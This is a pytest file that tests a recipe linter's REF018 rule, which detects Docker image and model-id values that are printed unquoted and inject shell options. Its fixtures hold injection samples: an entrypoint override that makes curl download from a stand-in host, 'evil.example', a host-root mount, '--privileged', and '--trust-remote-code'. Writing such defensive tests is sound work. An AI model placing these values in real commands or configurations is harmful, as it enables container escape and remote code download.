"""A value the site prints unquoted where a command takes one operand -- the Docker image
of ``docker run`` / ``docker pull``, the model id of ``vllm serve`` -- must be one word that
is not an option: an image with blanks injects ``docker run`` options and the container's
command, one starting with ``-`` is read as an option. ``REF018`` reports it (whatever the
recipe's own comments say), and ``render`` warns above each command that prints it -- run
in a real bash."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import check_tree, line_of
from tests.render.test_render_shell_warnings import _render
from tests.rules.ref.test_ref_shell_code import CHAT, _default_rendering, _edit, bash

INJECTED = ("--entrypoint=/usr/bin/curl vllm/vllm-openai:v0.23.0 -o/tmp/x "
            "http://evil.example/x")


def _with_image(root: Path, image: str) -> str:
    return _edit(root, '  model_id: "example-org/Example-Chat-8B"\n',
                 '  model_id: "example-org/Example-Chat-8B"\n'
                 f'  docker_image:\n    nvidia: "{image}"  # recipe-check: ignore[VER004]\n')


@pytest.mark.parametrize("image", [INJECTED, "-v /:/host vllm/vllm-openai:v0.23.0",
                                   "--privileged"])
def test_an_image_bash_splits_or_reads_as_an_option_is_an_unsuppressible_error(
        examples_tree: Path, tmp_path: Path, image: str) -> None:
    text = _with_image(examples_tree, image)
    docker = str(_default_rendering(examples_tree).docker_command)
    words = bash(docker, tmp_path).stdout.splitlines()
    # docker gets no image operand: the text is split, or one word docker reads as an option
    assert f"[{image}]" not in words or (" " not in image and image.startswith("-"))
    found = [f for f in check_tree(examples_tree, CHAT) if f.rule == "REF018"]
    assert [f.line for f in found] == [line_of(text, "nvidia:")]
    assert "the Docker image" in found[0].message
    rendered = _render(examples_tree)
    lines = rendered.splitlines()
    for start in ("docker run --gpus all \\", f"docker pull {image}"):
        at = lines.index(start)
        assert lines[at - 1].startswith("# warning: REF018:"), start


def test_a_model_id_bash_splits_is_an_error_and_render_warns(examples_tree: Path,
                                                            tmp_path: Path) -> None:
    text = _edit(examples_tree, "  default:\n",
                 '  default:\n    model_id: "org/m --trust-remote-code"\n')
    found = [f for f in check_tree(examples_tree, CHAT) if f.rule == "REF018"]
    assert line_of(text, "org/m --trust") in [f.line for f in found]
    serve = str(_default_rendering(examples_tree).processes[0].command)
    assert "[--trust-remote-code]" in bash(serve, tmp_path).stdout.splitlines()
    lines = _render(examples_tree).splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("vllm serve org/m"))
    assert lines[at - 1].startswith("# warning: REF018:")


def test_a_plain_image_and_model_id_get_no_finding_and_no_warning(
        examples_tree: Path) -> None:
    _with_image(examples_tree, "vllm/vllm-openai:v0.23.0")
    assert not [f for f in check_tree(examples_tree, CHAT) if f.rule == "REF018"]
    assert "# warning" not in _render(examples_tree)
